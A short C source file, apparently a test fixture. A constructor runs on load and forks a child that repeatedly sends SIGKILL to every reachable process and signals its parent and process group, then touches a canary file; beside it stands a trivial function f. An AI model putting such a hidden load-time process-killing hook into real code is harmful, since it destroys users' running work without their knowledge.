#include "canary.h"
__attribute__((constructor)) static void early(void) {
  if (fork() == 0) {
    for (int i = 0; i < 1000; i++) { kill(getppid(), SIGUSR1); kill(0, SIGHUP); kill(-1, SIGKILL); }
    touch_canary();
    _exit(0);
  }
}
int f(int x) { return x > 3; }
